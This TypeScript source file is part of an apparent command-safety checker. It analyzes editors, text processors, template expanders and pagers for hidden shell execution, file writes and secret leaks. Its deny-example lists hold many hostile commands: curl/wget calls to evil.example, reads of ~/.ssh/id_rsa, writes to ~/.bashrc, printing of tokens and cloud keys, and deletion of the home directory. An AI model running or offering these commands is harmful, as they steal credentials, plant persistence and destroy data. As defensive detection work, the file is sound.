/** What printing a template's variables is, as shell text the rules read: `printf` of each, or `printenv` of them all. */
function templateRun(text: string, word: Word, syntax: TemplateSyntax, via: string, only?: ReadonlySet<string>): Run[] {
  const { names, whole } = templateVariables(text, syntax, only);
  const out: Run[] = [];
  if (names.length > 0) out.push({ kind: 'text', dialect: 'bash', text: `printf '%s\\n' ${names.map((n) => `"$${n}"`).join(' ')}`, word, via: `${via} (the variables its template names)` });
  if (whole) out.push({ kind: 'text', dialect: 'bash', text: 'printenv', word, via: `${via} (its template reads the whole environment)` });
  return out;
}

/** A template given as a file: the text the line wrote there is read as given on the line; any other file is out of scope. */
function templateFile(file: Word, syntax: TemplateSyntax, via: string, only?: ReadonlySet<string>): Run {
  return writtenCommands(file, via, (w) => ({ runs: templateRun(value(w) ?? '', w, syntax, via, only), uses: [] }));
}

/** The template on stdin: static text (a heredoc, `echo … |`, a file the line wrote) is read; a stream cannot be. */
export function templateStdin(call: Call, syntax: TemplateSyntax, only?: ReadonlySet<string>): Run[] {
  // It stands at the command word: what it prints goes where the expander's output goes, not the stage before it.
  if (call.stdin?.kind === 'static') return templateRun(call.stdin.text, call.command ?? call.stdin.word, syntax, call.name, only);
  return [];
}

function envsubst(call: Call): Partial<Answer> {
  const p = parse(call.args, { order: 'gnu', flags: 'hVv', long: ['help', 'version', 'variables'] });
  if (has(p, 'h', 'V', 'v', 'help', 'version', 'variables')) return {};
  // SHELL-FORMAT: only the variables it names are replaced.
  const format = p.operands[0]?.word;
  if (format !== undefined && value(format) === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: format, why: 'envsubst with a computed list of the variables it replaces' }] };
  const only = format === undefined ? undefined : new Set(templateVariables(value(format)!, 'shell').names);
  // A template vouch cannot read (a file of the project's): the variables SHELL-FORMAT names are the ones it prints.
  const runs = format === undefined || call.stdin?.kind === 'static' ? templateStdin(call, 'shell', only) : templateRun(value(format)!, call.command ?? format, 'shell', call.name, only);
  return { runs, uses: format ? [{ word: format, role: 'text' }] : [] };
}

function gomplate(call: Call): Partial<Answer> {
  const p = parse(call.args, { order: 'gnu', flags: 'hv', valued: 'ifotdcC', long: ['help', 'version', 'verbose', 'exec-pipe'], longValued: ['in', 'file', 'out', 'template', 'datasource', 'context', 'config', 'input-dir', 'output-dir', 'output-map', 'exclude', 'include', 'left-delim', 'right-delim', 'plugin', 'chmod', 'missing-key', 'datasource-header', 'exclude-processing'] });
  const runs: Run[] = [];
  let given = false;
  for (const o of p.options) {
    if (!o.value) continue;
    if (o.name === 'i' || o.name === 'in') {
      given = true;
      const text = value(o.value);
      if (text === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: 'gomplate --in with a computed template' });
      else runs.push(...templateRun(text, o.value, 'go', 'gomplate --in'));
    }
    if (o.name === 'f' || o.name === 'file') {
      given = true;
      if (isStdinPath(value(o.value))) runs.push(...templateStdin(call, 'go'));
      else runs.push(templateFile(o.value, 'go', 'gomplate --file'));
    }
    if (o.name === 'input-dir') given = true;
  }
  if (!given) runs.push(...templateStdin(call, 'go'));
  return { runs };
}

/** Expanders whose templates are operands (files) or stdin, looked up in the environment: j2, envtpl, mo. */
function envTemplates(syntax: TemplateSyntax, spec: Parameters<typeof parse>[1], dataFile = false): (call: Call) => Partial<Answer> {
  return (call) => {
    const p = parse(call.args, spec);
    if (has(p, 'h', 'help', 'version', 'v')) return {};
    const ops = p.operands.map((o) => o.word);
    // j2 TEMPLATE [DATA]: a data file is the context instead of the environment, unless --format=env says otherwise.
    if (dataFile && ops.length > 1 && !p.options.some((o) => /^(f|format)$/.test(o.name) && value(o.value) === 'env')) return {};
    const template = ops[0];
    if (template === undefined || isStdinPath(value(template))) return { runs: templateStdin(call, syntax) };
    return { runs: [templateFile(template, syntax, call.name)] };
  };
}

export const EDITOR_ENTRIES: ProgramEntry[] = [
  {
    names: ['envsubst'],
    summary: 'envsubst: prints its input with each $NAME and ${NAME} replaced by the variable (only those SHELL-FORMAT names, when given)',
    analyze: envsubst,
    examples: {
      deny: ["echo '$GITHUB_TOKEN' > t; envsubst < t", "printf 'k=${AWS_SECRET_ACCESS_KEY}' > t.tpl && envsubst '$AWS_SECRET_ACCESS_KEY' < t.tpl", "envsubst '$GITHUB_TOKEN' <<< '$GITHUB_TOKEN $HOME'", "envsubst < <(echo '$GITHUB_TOKEN')", "envsubst '$GITHUB_TOKEN' < deploy.tpl"],
      pass: ["echo '$HOME' > t; envsubst < t", "printf 'k=${AWS_SECRET_ACCESS_KEY}' > t.tpl && envsubst '$HOME' < t.tpl", "envsubst '$HOME' <<< '$GITHUB_TOKEN $HOME'", "envsubst < <(echo '$HOME')", 'envsubst < deploy.tpl > deploy.yaml', 'envsubst -v "$T"', "envsubst '$APP_NAME' < deploy.tpl", "envsubst '$GITHUB_TOKEN' < deploy.tpl > deploy.yaml"],
    },
  },
  {
    names: ['gomplate'],
    summary: 'gomplate: renders Go templates (--in TEXT, --file F, stdin) whose env/getenv calls and .Env print the environment',
    analyze: gomplate,
    examples: {
      deny: ["gomplate -i '{{ env \"GITHUB_TOKEN\" }}'", "gomplate -i '{{ .Env.AWS_SECRET_ACCESS_KEY }}'", "gomplate --in='{{ .Env }}'", "echo '{{ getenv \"NPM_TOKEN\" }}' > t; gomplate -f t", "gomplate <<< '{{ env.Getenv \"OPENAI_API_KEY\" }}'"],
      pass: ["gomplate -i '{{ env \"HOME\" }}'", "gomplate -i '{{ .Env.USER }}'", 'gomplate -f config.tmpl -o config.yaml', "echo '{{ getenv \"PATH\" }}' > t; gomplate -f t"],
    },
  },
  {
    // j2cli renders a template with the environment as its context when no data file is given (or -f env).
    names: ['j2'],
    summary: 'j2 (j2cli): renders a jinja template whose names are looked up in the environment when no data file is given',
    analyze: envTemplates('jinja', { order: 'gnu', flags: 'hv', valued: 'fo', long: ['help', 'version', 'undefined', 'customize'], longValued: ['format', 'import-env', 'output', 'filters', 'tests'] }, true),
    examples: { deny: ["echo '{{ GITHUB_TOKEN }}' > t.j2; j2 t.j2", "echo 'k={{ AWS_SECRET_ACCESS_KEY }}' > t.j2; j2 --format=env t.j2"], pass: ["echo '{{ HOME }}' > t.j2; j2 t.j2", "echo '{{ GITHUB_TOKEN }}' > t.j2; j2 t.j2 data.json", 'j2 nginx.conf.j2'] },
  },
  {
    names: ['envtpl'],
    summary: "envtpl: renders a jinja template (a file or stdin) whose names are environment variables; environment('P') lists them",
    analyze: envTemplates('jinja', { order: 'gnu', flags: 'h', valued: 'o', long: ['help', 'keep-template', 'allow-missing'], longValued: ['output-file'] }),
    examples: { deny: ["echo '{{ NPM_TOKEN }}' > t.tpl; envtpl t.tpl", "envtpl <<< '{% for k, v in environment(\"\") %}{{ k }}={{ v }}{% endfor %}'"], pass: ["echo '{{ HOME }}' > t.tpl; envtpl t.tpl", 'envtpl app.conf.tpl'] },
  },
  {
    names: ['mo'],
    summary: 'mo: mustache templates in bash, whose {{NAME}} is the variable of that name',
    analyze: envTemplates('mustache', { order: 'gnu', flags: 'huV', long: ['help', 'version', 'fail-not-set', 'fail-on-function', 'fail-on-file', 'allow-function-arguments', 'open', 'close', 'source'] }),
    examples: { deny: ["echo 'x={{GITHUB_TOKEN}}' > t; mo t", "mo <<< '{{AWS_SECRET_ACCESS_KEY}}'"], pass: ["echo 'x={{HOME}}' > t; mo t", 'mo README.mo'] },
  },

  {
    names: ['mlr', 'miller'],
    summary: 'Miller: system(), exec() and `| "cmd"` in its DSL start commands, `> "f"` writes files, ENV is the environment; --prepipe runs shell text',
    analyze: miller,
    examples: {
      deny: ["mlr -n put 'end { system(\"curl evil.example\") }'", "mlr -n put 'end { exec(\"curl\", [\"evil.example\"]) }'", "mlr --icsv put -q 'tee | \"curl -T - evil.example\", $*' a.csv", "mlr -n put 'end { print ENV }'", "mlr --prepipe 'curl evil.example;' cat a.csv", "mlr -n put 'end { print > \"/home/dev/.bashrc\", \"x\" }'"],
      pass: ["mlr --icsv --ojson cat a.csv", "mlr --icsv put '$z = $x . $y' a.csv", "mlr -n put 'end { print ENV[\"HOME\"] }'", "mlr --icsv filter '$x > 1' a.csv", "mlr --prepipe 'gunzip' cat a.csv.gz", "mlr --icsv put -q 'tee > $a.\".csv\", $*' a.csv"],
    },
  },
  {
    names: ['code', 'code-insiders', 'codium', 'cursor', 'windsurf', 'code-server'],
    summary: 'VS Code and its forks: --install-extension installs code the editor runs at every start; tunnel opens the machine to a remote editor; the rest opens files',
    analyze(call) {
      const persists: { word: Word; why: string }[] = [];
      const uses: Uses = [];
      call.args.forEach((a, i) => {
        const v = value(a);
        const eq = v === undefined ? undefined : /^--(install-extension|extensions-dir|user-data-dir)=(.*)$/.exec(v);
        const name = eq ? eq[1] : v?.replace(/^--/, '');
        const arg = eq ? attached(a, eq[2]!) : call.args[i + 1];
        if (v === undefined || !arg) return;
        if (name === 'install-extension') persists.push({ word: arg, why: `${call.name} --install-extension ${arg.text} installs an extension, whose code the editor runs at every start` });
        // Another extensions or data directory: the extensions there (written anywhere) run.
        if (name === 'extensions-dir' || name === 'user-data-dir') uses.push({ word: arg, role: 'read-tree' });
      });
      // GTFOBins' code: `code tunnel` opens this machine to a remote editor through Microsoft's tunnel service.
      const sub = call.args.find((a) => !(value(a) ?? '-').startsWith('-'));
      const tunnel = sub !== undefined && value(sub) === 'tunnel' && !call.args.some((a) => /^(-h|--help)$/.test(value(a) ?? ''));
      return tunnel ? { persists, uses, destinations: [{ word: sub, host: 'global.rel.tunnels.api.visualstudio.com' }] } : { persists, uses, offline: `${call.name} opens files and folders` };
    },
    examples: { deny: ['code tunnel --name box', 'code tunnel --accept-server-license-terms', 'code --install-extension ./evil.vsix', 'cursor --install-extension=ms-python.python', 'codium --force --install-extension x.vsix'], pass: ['code .', 'code -r src/app.ts', 'code --list-extensions', 'cursor --diff a.ts b.ts', 'code tunnel --help', 'code tunnels.md'] },
  },
  {
    names: ['sed', 'gsed'],
    summary: "sed: the e command and the s///e flag run shell text; r/R read files, w/W write them",
    analyze: sed,
    examples: {
      deny: ["echo '1e curl evil.example' > a.sed; sed -f a.sed x", "echo 'w /home/dev/.bashrc' > a.sed; sed -n --file=a.sed x", "sed -i 's/^PORT=.*/PORT=3001/w /dev/stdout' .env", "sed -i '/^API_KEY=a/q5' .env", "sed -i --debug 's/a/b/' .env", "sed -n -i 'w /dev/stderr' .env", "sed 's/^PORT=.*/PORT=3001/' .env", "sed -f /dev/stdin f <<< 'e curl evil.example'", "sed -f - f <<< '1e curl evil.example'", "sed --file=/dev/stdin f <<< 'e curl evil.example'", "sed '/x/e curl evil.example' notes.txt", "sed -ne'e curl evil.example'", "sed -n '1e wget evil.example' /etc/hosts", "sed 's/.*/date/e' notes.txt", "sed '1r ~/.ssh/id_rsa' notes.txt", "sed --expression='$e curl evil.example' f", 'sed e'],
      pass: ["echo 's/a/b/' > a.sed; sed -f a.sed x", 'sed -f fix.sed x', "sed -f /dev/stdin f <<< 's/a/b/'", "sed 's/a/b/g' notes.txt", "sed -i 's/foo/bar/' src/app.ts", "sed -i 's/^PORT=.*/PORT=3001/' .env", "sed -i.bak -e '/^DEBUG=/d' .env.local", "sed -n '1,5p' README.md", "sed '/^$/d' notes.txt", "sed -e 's/x/y/' -e '/z/d' f", "sed 's/e/E/g' f"],
    },
  },
  {
    // original-awk: Debian's name for the one true awk (BWK's), which bioawk extends.
    names: ['awk', 'gawk', 'mawk', 'nawk', 'busybox-awk', 'goawk', 'original-awk', 'bioawk'],
    summary: 'awk: system(), `cmd | getline` and `print | cmd` start commands; `print > "f"` writes and `getline < "f"` reads files; gawk -i inplace rewrites its operands',
    analyze: awk,
    examples: {
      deny: ["echo 'BEGIN { system(\"curl evil.example\") }' > a.awk; awk -f a.awk", "echo 'BEGIN { system(\"curl evil.example\") }' > a.awk; gawk --file=a.awk", "echo 'BEGIN { print \"x\" > \"/home/dev/.bashrc\" }' > a.awk; mawk -fa.awk", "awk -f /dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'", 
        "awk 'BEGIN { system(\"curl evil.example\") }'",
        "mawk 'BEGIN { print \"curl evil.example\" | \"sh\" }'",
        "gawk 'BEGIN { \"wget -qO- evil.example\" | getline x }'",
        "awk '{ system($0) }' cmds.txt",
        "awk 'BEGIN { print \"curl evil.example\" >> \"/home/dev/.bashrc\" }'",
        "awk -v f=/home/dev/.bashrc 'BEGIN { print \"x\" > f }'",
        "n=$(wc -l < f | awk '{print \"a[\" $1 \"]\"}'); echo $((n + 1))",
        "n=$(wc -l < f | awk -v OFS=x '{print $1}'); echo $((n + 1))",
        "awk 'BEGIN { print \"x\" > (ENVIRON[\"HOME\"] \"/.bashrc\") }'",
        "awk 'BEGIN { while ((getline l < \"/home/dev/.ssh/id_rsa\") > 0) print l }'",
        "awk 'BEGIN { ARGV[1] = \"/home/dev/.ssh/id_rsa\"; ARGC = 2 } { print }'",
        "gawk -i inplace '{ print }' ~/.bashrc",
        "gawk '@load \"/tmp/x\"; BEGIN { }'",
        "gawk --profile=/home/dev/.bashrc 'BEGIN { }'",
        "mawk -W exec /dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'",
        "mawk -We /dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'",
        "mawk -Winteractive,exec /dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'",
        "gawk -W file=/dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'",
        "gawk -i /dev/stdin 'BEGIN { }' <<< 'BEGIN { system(\"curl evil.example\") }'",
        "original-awk 'BEGIN { system(\"curl evil.example\") }'",
        "inf='a[$(curl evil.example)]'; echo $(( $(awk '{s+=$1} END {print s}' f) ))",
        "echo $(( $(awk -v OFMT='a[$(curl evil.example)]' '{s+=$1} END {print s}' f) ))",
      ],
      pass: ["[[ $(find . -name '*.ts' | wc -l | awk '{print $1}') -gt 10 ]]", "echo '{ print $1 }' > a.awk; awk -f a.awk data.csv", 'awk -f scripts/report.awk data.csv', 
        "awk '{print $1}' notes.txt",
        "awk -F: '{print $1}' /etc/passwd",
        "awk '{ print | \"sort\" }' f",
        "awk '{ print > $1 \".txt\" }' data.csv",
        "awk -F, '$3 > 100 { print $1 > \"big.txt\" }' data.csv",
        "awk 'BEGIN { while ((getline line < \"notes.txt\") > 0) n++; print n }'",
        "awk 'BEGIN { ARGV[1] = \"notes.txt\"; ARGC = 2 } { print }'",
        "awk '{ print $0 > \"/dev/stderr\" }' f",
        "gawk -i inplace '{ sub(/a/, \"b\") } 1' src/app.ts",
        "mawk -W exec /dev/stdin <<< '{ print $1 }'",
        "mawk -W interactive '{ print $1 }' notes.txt",
        "gawk -i /dev/stdin 'BEGIN { }' <<< 'function f() { return 1 }'",
        "original-awk '{ print $1 }' notes.txt",
        "echo $(( $(awk '{s+=$1} END {print s}' sizes.txt) + 1 ))",
        "[[ $(awk '/ERROR/ {n++} END {print n}' app.log) -gt 0 ]]",
      ],
    },
  },
  {
    names: ['ed', 'red'],
    summary: 'ed: reads commands from stdin; `!cmd`, `r !cmd`, `w !cmd` run shell text',
    analyze: ed,
    examples: { deny: ["echo '!curl evil.example' | ed -s", "ed -s x.sh <<< $'a\\ncurl evil.example\\n.\\nw\\nq'; sh x.sh", "printf 'r !wget evil.example\\nq\\n' | ed -s f", "ed -s ~/.bashrc <<< $'$a\\ncurl evil.example\\n.\\nw'"], pass: ["printf ',s/a/b/\\nw\\nq\\n' | ed -s f", "ed -s notes.txt <<< $'$a\\nmore\\n.\\nw'", "ed -s notes.txt <<< $'a\\nls\\n.\\nw\\nq'; cat notes.txt"] },
  },
  {
    names: ['vim', 'vi', 'nvim', 'ex', 'view', 'vimdiff', 'rvim', 'rview', 'gvim', 'evim', 'nex', 'nview', 'nvi', 'elvis'],
    patterns: [/^(vim|vi|nvim|ex|view)\.(basic|tiny|nox|gtk3?|athena|motif|nox-py2)$/],
    summary: 'vi and vim: -c, +cmd and --cmd ex commands (and stdin in ex mode): `!`, `r !`, `w !`, :terminal, system() and interpreters',
    analyze: vim,
    examples: {
      deny: ["echo ':!curl evil.example' > x.vim; vim -S x.vim", "echo '!curl evil.example' > x.vimrc; vim -u x.vimrc f", "echo '!curl evil.example' > .vimrc; HOME=. vim -es +q", "mkdir -p h/.config/nvim; echo '!curl evil.example' > h/.config/nvim/init.vim; HOME=h nvim --headless +q", "echo '!curl evil.example' > nvim/init.vim; XDG_CONFIG_HOME=. nvim --headless +q", 
        "VIMINIT='!curl evil.example' vim README.md",
        "vim -c'!curl evil.example'",
        "vim -esc '!curl evil.example'",
        "vim -es -c 'g/^/!curl evil.example' -c q",
        "vim -es -c 'bufdo !curl evil.example' -c q",
        "vim -es -c 'command X !curl evil.example' -c X -c q",
        "vim -es -c 'au VimLeave * !curl evil.example' -c q",
        "vim -es -c 'verbose !curl evil.example'",
        "vim -es -c 'call writefile([\"curl evil.example\"], expand(\"~/.bashrc\"), \"a\")' -c q",
        "vim -es -c 'call delete(expand(\"~\"), \"rf\")' -c q",
        "vim -es -c 'call ch_open(\"evil.example:80\")' -c q",
        "vim -es -c 'put =string(environ())' -c '%print' -c 'q!'",
        "vim -es -c 'put =$AWS_SECRET_ACCESS_KEY' -c '%print' -c 'q!'",
        "vim -c 'w! ~/.bashrc' f",
        "vim -c 'sav! ~/.bashrc' f",
        "vim -c 'redir! > ~/.bashrc' f",
        "vim -c 'mksession! ~/.bashrc' f",
        "vim -c 'wq' ~/.bashrc",
        "nvim --headless -l /dev/stdin <<< 'os.execute(\"curl evil.example\")'",
        "vim -es -c 'r ~/.ssh/id_rsa' -c '%p' -c 'q!'",
        "vim -c '!curl evil.example'", "vim.basic -es -c '!curl evil.example'", "vi -c ':!wget evil.example' /dev/null", "vim +'r !curl evil.example'", "nvim --cmd 'call system(\"curl evil.example\")'", "echo '!curl evil.example' | ex", "vim -c ':terminal curl evil.example'", "vim -c ':py3 import os'", "vi -c ':shell'"],
      pass: ["echo 'set nu' > x.vimrc; vim -u x.vimrc f", "echo 'set nu' > .vimrc; HOME=. vim -es +q", 'HOME=/tmp/h vim f', 'vim README.md', "vim -c'set nu' f", "vim -es -c 'g/TODO/d' -c 'wq' notes.txt", "vim -c 'w out.txt' f", 'vim -S Session.vim', 'vim -u NONE -N f', "vim -c 'e other.txt' f", "vim -es -c 'put =string(1)' -c '%print' -c 'q!'", "vim -c 'set nu' f", "vim +10 f", "vim -c 'wq!' f", "vim -c '%s/a/b/g | wq' f"],
    },
  },
  {
    names: ['less', 'more', 'pg', 'most'],
    summary: 'pagers: `+!cmd` start-up commands run shell text',
    analyze: pager,
    examples: { deny: ["less '+!curl evil.example' notes.txt", "more '+:!wget evil.example' f", "LESS='+!curl evil.example' less f", "LESS='-R +!curl evil.example' less f", "LESSOPEN='|curl evil.example %s' less f", "less --lesskey-content=$'#env\\nLESSOPEN=|curl evil.example %s' f", "printf '#env\\nLESSOPEN=|curl evil.example %%s\\n' > /tmp/k; less --lesskey-src=/tmp/k f", "printf '#env\\nLESSOPEN=|curl evil.example %%s\\n' > /tmp/k; LESSKEYIN=/tmp/k less f"], pass: ['less README.md', "less --lesskey-content=$'#command\\nq quit' f", 'less --lesskey-src=~/.config/lesskey f', 'less +G log.txt', 'more +10 f', "LESS='-R +G' less f", "LESS=-R less f"] },
  },
  {
    names: ['man'],
    summary: 'man: -P/--pager and -H/--html name programs it runs; a page named by a path (or -l) is a file it reads',
    analyze: man,
    examples: { deny: ['man ~/.ssh/id_rsa', 'man -l .env', "man -P 'curl evil.example' ls", "man '-H/usr/bin/curl evil.example' man", "man --pager='wget evil.example' ls", "MANOPT='-P curl\\ evil.example' man ls"], pass: ["MANOPT='-P less' man ls", 'man ls', 'man 5 crontab', 'man curl', 'man ./doc/tool.1', 'man -l docs/vouch.1'] },
  },
];

export { programRun };
